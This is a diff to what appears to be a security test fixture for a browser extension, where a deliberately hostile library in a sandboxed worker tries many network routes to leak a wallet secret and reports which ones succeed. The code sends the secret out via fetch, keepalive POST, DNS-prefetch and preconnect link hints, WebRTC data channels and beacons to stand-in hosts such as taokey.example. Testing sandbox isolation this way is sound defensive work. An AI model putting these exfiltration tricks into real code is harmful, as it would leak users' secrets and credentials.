@@ -1,5 +1,5 @@
-// A hostile library inside the room's worker. Asked to sign, it tries every way to a network that a worker has or might
-// be given, and reports what came of each as the checks of a boot report, which the page passes on. The port of the
+// A hostile library inside the room's worker. Asked to sign, it tries every way to a network that a worker or a document
+// has or might be given, and reports what came of each as the checks of a boot report, which the page passes on. The port of the
 // listening server is what it is asked to sign; the extension's own policy allows sockets to it.
 {
   const secret = 'seed-of-the-wallet'
@@ -11,7 +11,7 @@
 
   const ways = {
     fetch: () => fetch(`http://${at('fetch')}`, { mode: 'no-cors' }),
-    'fetch a name': () => fetch(`http://${secret}.taokey.example/`, { mode: 'no-cors' }),
+    'fetch a name': () => fetch(`http://${secret}-${port}.taokey.example/`, { mode: 'no-cors' }),
     'fetch to keep alive': () =>
       fetch(`http://${at('alive')}`, { mode: 'no-cors', method: 'POST', body: secret, keepalive: true }),
     'fetch our own file': () => fetch('/manifest.json'),
@@ -49,7 +49,16 @@
         request.onsuccess = done
         request.onerror = refuse
       }),
-    'peer connection': () => new RTCPeerConnection({ iceServers: [{ urls: `stun:${at('stun')}` }] }),
+    'data channel': () => {
+      const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] })
+      peer.createDataChannel(secret)
+      return peer.setLocalDescription()
+    },
+    'data channel under its old name': () => new webkitRTCPeerConnection({}).createDataChannel(secret),
+    'hint to look a name up': () => hint('dns-prefetch', `//hint-${secret}-${port}.taokey.example`),
+    'hint to connect': () => hint('preconnect', `http://connect-${secret}-${port}.taokey.example`),
+    'hint to fetch': () => hint('prefetch', `http://${at('prefetch')}`),
+    'hint of a module': () => hint('modulepreload', `http://${at('preload')}`),
     beacon: () => (navigator.sendBeacon(`http://${at('beacon')}`) ? 'sent' : refuse()),
     notification: () =>
       new Promise((done, failed) => {
@@ -75,6 +84,9 @@
 
   function refuse() {
     throw new Error('refused')
+  }
+  function hint(rel, href) {
+    document.head.append(Object.assign(document.createElement('link'), { rel, href }))
   }
   function opened(source) {
     return new Promise((done, failed) => {
@@ -110,7 +122,8 @@
     if (data?.kind !== 'command' || data.command?.name !== 'room.sign') return
     port = Number(data.command.input.payload)
     void tryAll().then((outcomes) => {
-      // A report has room for 32 checks: two of them.
+      outcomes.push('end')
+      // A report has room for 32 checks: several of them.
       for (let from = 0; from < outcomes.length; from += 16)
         post({
           kind: 'ready',
